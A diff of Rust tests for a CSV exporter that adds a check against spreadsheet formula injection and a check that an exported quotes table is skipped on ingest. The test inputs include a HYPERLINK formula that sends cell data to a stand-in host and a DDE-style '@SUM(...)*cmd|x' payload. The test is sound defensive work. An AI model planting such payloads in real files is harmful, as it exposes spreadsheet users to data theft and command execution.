@@ -68,18 +68,40 @@ fn a_table_has_a_line_of_names_and_one_a_quote() {
     let lines: Vec<&str> = out.split("\r\n").collect();
     assert_eq!(lines[0], rapporteur::export::CSV_COLUMNS);
     assert_eq!((lines.len(), lines[3]), (4, ""));
-    let (start, end) = lines[1].split_once(",direct,").unwrap();
+    let (start, end) = lines[1].split_once(",\"direct\",").unwrap();
     assert!(
-        start.ends_with(",Marta Duarte,,\"The crane, at last, will come, It is a large one.\""),
+        start.ends_with(",\"Marta Duarte\",\"\",\"The crane, at last, will come, It is a large one.\""),
         "{start}"
     );
-    assert!(
-        end.contains(",envoy,")
-            && end.ends_with(
-                ",Coast Gazette,\"Cranes, \"\"Heron\"\" first\",Clara Berg,,2025-11-03,false,harbour;cranes"
-            ),
-        "{end}"
-    );
+    let source =
+        r#","Coast Gazette","Cranes, ""Heron"" first","Clara Berg","","2025-11-03","false","harbour;cranes""#;
+    assert!(end.contains(",\"envoy\",") && end.ends_with(source), "{end}");
+}
+
+#[test]
+fn no_cell_of_a_table_is_a_formula() {
+    let town = Town::new();
+    let text = "+++\nid = \"c\"\ntitle = '=HYPERLINK(\"http://x.example/?\"&A1,\"x\")'\noutlet = \"@SUM(1+1)*cmd|x\"\n\
+                author = \"'+1\"\ntags = [\"-1\"]\n+++\n\n“=1+1 We will decide this on Friday,” Anna Control said.\n";
+    town.write("c.md", text);
+    let (status, out, _) = export(&town, &["--format", "csv"]);
+    assert_eq!(status, 0);
+    let row = out.lines().nth(1).unwrap();
+    for cell in [
+        r#""'=1+1 We will decide this on Friday,""#,
+        r#""'=HYPERLINK(""http://x.example/?""&A1,""x"")""#,
+        r#""'@SUM(1+1)*cmd|x""#,
+        r#""''+1""#,
+        r#""'-1""#,
+    ] {
+        assert!(row.contains(&format!(",{cell}")), "no {cell} in {row}");
+    }
+    assert!(!row.contains(",=") && !row.contains(",\"="), "{row}");
+    // The quotes are no articles: a table of them in a corpus is named, and nothing of it is indexed.
+    town.write("quotes.csv", &out);
+    let report = town.ingest();
+    assert_eq!((report.articles, report.skipped.len()), (1, 1));
+    assert!(report.skipped[0].reason.contains("a table of quotes"), "{report:?}");
 }
 
 #[test]
